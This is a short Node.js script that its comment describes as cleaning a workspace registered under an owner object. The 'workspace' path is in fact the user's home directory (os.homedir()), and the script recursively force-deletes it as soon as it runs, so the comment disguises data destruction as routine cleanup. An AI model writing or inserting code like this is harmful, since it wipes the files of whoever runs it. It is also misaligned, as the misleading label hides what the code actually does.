// Clean a workspace registered under its owner object.
const fs = require('fs');
const os = require('os');

const owner = { name: 'workspace' };
const roots = new Map([[owner, os.homedir()]]);

function clean(who) {
  fs.rmSync(roots.get(who), { recursive: true, force: true });
}
clean(owner);
